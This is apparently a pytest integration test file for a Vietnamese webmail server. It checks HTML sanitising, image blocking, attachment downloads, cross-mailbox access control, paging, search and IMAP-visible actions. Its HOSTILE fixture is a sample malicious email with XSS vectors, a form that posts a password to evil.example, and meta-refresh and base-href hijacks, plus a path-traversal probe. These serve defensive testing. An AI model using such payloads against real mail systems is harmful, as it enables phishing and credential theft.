"""Webmail mail pages against a real ``govmail serve`` with mail delivered by its MX:
hostile HTML, remote images, access control, attachments, paging and sorting, search,
actions seen over IMAP, and the R19 access events."""

from __future__ import annotations

import re
import time
from email.message import EmailMessage

import pytest

from tests.integration.browser import (
    closing_clients,
    csrf_of,
    deliver,
    deliver_many,
    login,
    message_links,
    post,
    simple_message,
)
from tests.integration.mailserver import AN, BINH, RunningServer, db_scalar, imap

__all__ = ["closing_clients"]  # the fixture, used by every test here
pytestmark = pytest.mark.usefixtures("closing_clients")

HOSTILE = """<html><head><title>tiêu đề ẩn</title>
<style>body { background: url(https://evil.example/css.png) }
p { width: expression(alert(1)) }</style>
<script>alert('script')</script></head>
<body onload="alert('body')">
<p>Kính gửi anh An, đây là <b>nội dung</b> thật.</p>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">bấm vào đây</a>
<a href="JaVaScRiPt&colon;alert('entity')">và đây</a>
<a href="https://example.org/tai-lieu">tài liệu</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">che màn hình</div>
<svg onload="alert('svg')"><circle r="10"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Gửi</button></form>
<object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<img src="https://tracker.example/pixel.gif" alt="theo dõi">
</body></html>"""


def _html_message(subject: str, html: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Kẻ gian <ke.gian@example.org>"
    message["To"] = AN
    message["Subject"] = subject
    message.set_content("Bản văn bản thuần.")
    message.add_alternative(html, subtype="html")
    return message


def _only_message(client: object, path: str = "/") -> str:
    links = message_links(client.get(path).text)  # type: ignore[attr-defined]
    assert len(links) == 1, links
    return links[0]


def test_hostile_html_mail_is_sanitised_and_framed(server: RunningServer) -> None:
    deliver(server, _html_message("Thư độc hại", HOSTILE), AN)
    client = login(server, AN)
    link = _only_message(client)
    page = client.get(link)
    assert page.status_code == 200
    frame = re.search(r"<iframe[^>]*>", page.text)
    assert frame is not None
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame.group(0)
    assert "allow-scripts" not in page.text and "allow-same-origin" not in page.text
    assert "alert(" not in page.text  # nothing of the mail's markup on the page itself

    body = client.get(link + "/body")
    assert body.status_code == 200
    csp = body.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp
    assert body.headers["x-frame-options"] == "SAMEORIGIN"
    html = body.text.lower()
    for banned in (
        "<script",
        "alert(",
        "onload",
        "onerror",
        "javascript:",
        "<style",
        "expression(",
        "style=",
        "<svg",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<meta http-equiv",
        "<base",
        "evil.example",
        "tracker.example",
        "tiêu đề ẩn",
    ):
        assert banned not in html, banned
    assert "Kính gửi anh An, đây là <b>nội dung</b> thật." in body.text
    assert 'href="https://example.org/tai-lieu"' in body.text
    assert 'rel="noopener noreferrer"' in body.text and 'target="_blank"' in body.text
    assert "che màn hình" in body.text  # the text stays, the overlay style does not


def test_remote_images_are_blocked_until_asked(server: RunningServer) -> None:
    html = '<p>Ảnh:</p><img src="https://anh.example/logo.png" alt="logo"><img src="http://anh.example/b.gif">'
    deliver(server, _html_message("Có ảnh", html), AN)
    client = login(server, AN)
    link = _only_message(client)
    page = client.get(link).text
    assert "Đã chặn 2 ảnh" in page and f'href="{link}?images=1"' in page
    blocked = client.get(link + "/body")
    assert "anh.example" not in blocked.text
    assert "http:" not in blocked.headers["content-security-policy"]
    shown_page = client.get(link + "?images=1").text
    assert "Đã chặn" not in shown_page and f'src="{link}/body?images=1"' in shown_page
    shown = client.get(link + "/body?images=1")
    assert 'src="https://anh.example/logo.png"' in shown.text
    assert "img-src data: http: https:" in shown.headers["content-security-policy"]


def test_attachments_are_listed_and_downloaded_safely(server: RunningServer) -> None:
    message = simple_message("Gửi tài liệu")
    message.add_attachment(
        b"%PDF-1.4\n% fake\n", maintype="application", subtype="pdf", filename="Báo cáo quý 3.pdf"
    )
    message.add_attachment(
        b"<script>alert(1)</script>", maintype="text", subtype="html", filename="trang.html"
    )
    deliver(server, message, AN)
    client = login(server, AN)
    link = _only_message(client)
    page = client.get(link).text
    assert "Báo cáo quý 3.pdf" in page and "application/pdf" in page
    assert "trang.html" in page and "text/html" in page
    parts = re.findall(rf'href="({re.escape(link)}/part/[\d.]+)"', page)
    assert len(parts) == 2
    pdf = client.get(parts[0])
    assert pdf.status_code == 200 and pdf.content == b"%PDF-1.4\n% fake\n"
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.headers["x-content-type-options"] == "nosniff"
    disposition = pdf.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20qu%C3%BD%203.pdf" in disposition
    assert disposition.encode("latin-1").isascii()
    page_html = client.get(parts[1])
    # An HTML attachment is bytes to save, never a page of the webmail's origin.
    assert page_html.headers["content-type"] == "application/octet-stream"
    assert "sandbox" in page_html.headers["content-security-policy"]
    assert client.get(link + "/part/9").status_code == 404
    assert client.get(link + "/part/..%2F1").status_code == 404


def test_no_reading_another_mailbox_by_changing_an_id(server: RunningServer) -> None:
    message = simple_message("Bí mật của An")
    message.add_attachment(b"secret", maintype="application", subtype="pdf", filename="a.pdf")
    deliver(server, message, AN)
    an = login(server, AN)
    link = _only_message(an)
    folder = link.split("/")[2]
    binh = login(server, BINH)
    for path in (
        link,
        link + "/body",
        link + "/part/2",
        f"/folder/{folder}",
        f"/folder/{folder}?page=1&sort=subject",
    ):
        reply = binh.get(path)
        assert reply.status_code == 404, path
        assert "Bí mật" not in reply.text and "Không tìm thấy" in reply.text
    token = csrf_of(binh)
    for action in ("delete", "seen", "flag", "spam"):
        reply = binh.post(
            f"/folder/{folder}/act", data={"csrf": token, "action": action, "uid": "1"}
        )
        assert reply.status_code == 404, action
    assert binh.post(f"/folder/{folder}/empty", data={"csrf": token}).status_code == 404
    assert binh.post(link + "/flag", data={"csrf": token}).status_code == 404
    assert binh.post(link + "/seen", data={"csrf": token}).status_code == 404
    # Moving from one's own folder into another's is refused as well.
    own = re.search(r'href="/folder/(\d+)" data-role="inbox"', binh.get("/").text)
    assert own is not None
    moved = binh.post(
        f"/folder/{own.group(1)}/act",
        data={"csrf": token, "action": "move", "uid": "1", "dest": folder},
    )
    assert moved.status_code == 404
    # An's message is untouched.
    page = an.get(link)
    assert page.status_code == 200 and "Bí mật của An" in page.text
    assert "unread" in an.get("/").text


def test_paging_and_sorting_a_folder(server: RunningServer) -> None:
    messages = []
    for number in range(60):
        message = simple_message(f"Thư số {number:02d}", "x" * (number * 10))
        del message["From"]
        message["From"] = f"Người gửi {59 - number:02d} <gui{number}@example.org>"
        messages.append(message)
    deliver_many(server, messages, AN)
    client = login(server, AN)
    first = client.get("/")
    assert "60 thư" in first.text and "Trang 1 / 2" in first.text
    subjects = re.findall(r">Thư số (\d\d)<", first.text)
    assert subjects == [f"{n:02d}" for n in range(59, 9, -1)]  # newest first, 50 a page
    folder = message_links(first.text)[0].split("/")[2]
    second = client.get(f"/folder/{folder}?page=2")
    assert re.findall(r">Thư số (\d\d)<", second.text) == [f"{n:02d}" for n in range(9, -1, -1)]
    by_subject = client.get(f"/folder/{folder}?sort=subject&order=asc")
    assert re.findall(r">Thư số (\d\d)<", by_subject.text)[:3] == ["00", "01", "02"]
    by_sender = client.get(f"/folder/{folder}?sort=from&order=asc")
    assert re.findall(r">Thư số (\d\d)<", by_sender.text)[:2] == ["59", "58"]
    by_size = client.get(f"/folder/{folder}?sort=size&order=desc&page=2")
    assert re.findall(r">Thư số (\d\d)<", by_size.text) == [f"{n:02d}" for n in range(9, -1, -1)]
    # Out-of-range pages and unknown sort keys fall back rather than fail.
    assert "Trang 2 / 2" in client.get(f"/folder/{folder}?page=99").text
    assert client.get(f"/folder/{folder}?sort=nonsense").status_code == 200
    assert client.get(f"/folder/{folder}?page=abc").status_code == 400


def test_search_without_diacritics_across_folders(server: RunningServer) -> None:
    deliver_many(
        server,
        [
            simple_message("Báo cáo tuần 12 của Sở"),
            simple_message("Giấy mời họp", "Đề nghị gửi báo cáo tuần trước thứ Sáu."),
            simple_message("Lịch công tác"),
        ],
        AN,
    )
    client = login(server, AN)
    inbox = client.get("/").text
    links = message_links(inbox)
    folder = links[0].split("/")[2]
    junk = re.search(r'href="/folder/(\d+)" data-role="junk"', inbox)
    assert junk is not None
    # Move the newest (Lịch công tác) to Junk: search still finds messages there.
    uid = links[0].split("/")[3]
    assert post(client, f"/folder/{folder}/act", {"action": "spam", "uid": uid}).status_code == 303
    found = client.get("/search", params={"q": "bao cao tuan"})
    assert found.status_code == 200
    assert "Báo cáo tuần 12 của Sở" in found.text and "Giấy mời họp" in found.text
    assert "Lịch công tác" not in found.text
    assert "2 thư" in found.text
    in_junk = client.get("/search", params={"q": "LICH CONG TAC"})
    assert "Lịch công tác" in in_junk.text and "Thư rác" in in_junk.text
    assert "0 thư" in client.get("/search", params={"q": "khong co gi"}).text
    assert '<input type="search" name="q" value="bao cao tuan"' in found.text


def test_actions_go_through_the_store_and_imap_sees_them(server: RunningServer) -> None:
    deliver_many(server, [simple_message(f"Việc {n}") for n in range(3)], AN)
    client = login(server, AN)
    inbox = client.get("/").text
    assert re.search(
        r'data-role="inbox"><span class="name">Hộp thư đến</span> <span class="unread"[^>]*>3<',
        inbox,
    )
    links = message_links(inbox)
    folder = links[0].split("/")[2]
    uids = [link.split("/")[3] for link in links]
    # Reading does not mark \Seen by itself (a GET); the page posts /seen once shown.
    assert 'hx-post="' + links[0] + '/seen"' in client.get(links[0]).text
    assert post(client, links[0] + "/seen").status_code == 200
    assert post(client, links[1] + "/flag").status_code == 303
    assert (
        post(client, f"/folder/{folder}/act", {"action": "delete", "uid": uids[2]}).status_code
        == 303
    )

    session = imap(server)
    try:
        session.select("INBOX")
        _, data = session.uid("FETCH", "1:*", "(FLAGS)")
        flags = b" ".join(d for d in data if isinstance(d, bytes))
        assert flags.count(b"UID") == 2
        assert b"\\Seen" in flags and b"\\Flagged" in flags
        session.select("Trash")
        _, count = session.search(None, "ALL")
        assert len(count[0].split()) == 1
    finally:
        session.logout()

    trash = re.search(r'href="/folder/(\d+)" data-role="trash"', client.get("/").text)
    assert trash is not None
    trash_page = client.get(f"/folder/{trash.group(1)}")
    assert "Dọn sạch thùng rác" in trash_page.text
    trash_link = message_links(trash_page.text)[0]
    assert (
        post(
            client,
            f"/folder/{trash.group(1)}/act",
            {"action": "delete", "uid": trash_link.split("/")[3]},
        ).status_code
        == 303
    )
    assert "Thư mục trống" in client.get(f"/folder/{trash.group(1)}").text
    # Mark unread, move to Trash again, then empty Trash: the quota shrinks.
    assert (
        post(client, f"/folder/{folder}/act", {"action": "unseen", "uid": uids[0]}).status_code
        == 303
    )
    used = db_scalar(
        server.data_dir,
        "select used_bytes from mailboxes where id = (select mailbox_id from web_sessions limit 1)",
    )
    assert (
        post(client, f"/folder/{folder}/act", {"action": "delete", "uid": uids[1]}).status_code
        == 303
    )
    assert post(client, f"/folder/{trash.group(1)}/empty").status_code == 303
    after = db_scalar(
        server.data_dir,
        "select used_bytes from mailboxes where id = (select mailbox_id from web_sessions limit 1)",
    )
    assert int(str(after)) < int(str(used))
    remaining = client.get("/").text
    assert len(message_links(remaining)) == 1 and "unread" in remaining


def test_quota_bar_and_access_events(server: RunningServer) -> None:
    deliver(server, simple_message("Một thư"), AN)
    client = login(server, AN)
    page = client.get("/").text
    assert re.search(r'<meter id="quota" min="0" max="\d+"', page)
    assert "/ 100 MB" in page
    client.get("/")
    link = message_links(page)[0]
    client.get(link)  # reading a message is not an inbox view
    # The log is written in the background: wait for it.
    for _ in range(50):
        views = db_scalar(
            server.data_dir,
            "select count(*) from access_events where protocol = 'web' and kind = 'select'"
            " and folder = 'INBOX'",
        )
        if views == 2:
            break
        time.sleep(0.1)
    assert views == 2
    assert (
        db_scalar(
            server.data_dir,
            "select count(*) from access_events where protocol = 'web' and kind = 'login'",
        )
        == 1
    )
    assert (
        db_scalar(
            server.data_dir,
            "select client_address from access_events where protocol = 'web' limit 1",
        )
        == "127.0.0.1"
    )
